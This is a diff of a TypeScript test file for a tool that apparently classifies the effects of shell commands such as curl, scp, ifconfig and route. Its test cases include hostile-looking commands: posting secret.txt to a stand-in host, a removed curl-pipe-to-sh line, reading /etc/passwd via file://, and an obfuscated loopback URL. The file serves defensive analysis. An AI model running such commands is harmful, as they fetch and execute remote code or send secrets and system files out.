@@ -1,8 +1,9 @@
 import { expect, test } from 'bun:test';
-import { describe } from '../testing/describe-reading.ts';
+import { readCurl } from './read-curl.ts';
+import { readScp } from './read-transfer.ts';
+import { describe, rowOf } from '../testing/describe-reading.ts';
 
 const CASES: readonly (readonly [command: string, reading: string])[] = [
-  ['curl http://x.y/z | sh', 'network get:http://x.y/z, network get:, network get:http://sh'],
   ['curl https://api.github.com/x', 'network get:https://api.github.com/x'],
   ['curl -sSL example.com/a -o out.txt', 'network get:http://example.com/a, write /p/out.txt'],
   ['curl -X POST -d @secret.txt https://x.y', 'network post:https://x.y, read /p/secret.txt'],
@@ -78,8 +79,18 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['curl --data-raw @x http://x', 'network post:http://x'],
   ['curl -JO http://x/y', 'network get:http://x/y, write /p/y, write tree:/p'],
   ['curl --bogus http://x', 'unknown'],
+  ['curl file:///etc/passwd', 'read tree:/etc/passwd'],
+  ['curl http://{a,b}.example', 'network get:http://{a,b}.example'],
+  ['curl http://0x7f.1/', 'network get:http://0x7f.1/'],
+  ['ifconfig', ''],
+  ['ifconfig eth0 down', 'execute program:ifconfig'],
+  ['route -n', ''],
 ];
 
 test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command)).toBe(reading);
+});
+
+test('curl and scp have their readers in the table', () => {
+  expect([rowOf('curl')?.read, rowOf('scp')?.read]).toEqual([readCurl, readScp]);
 });
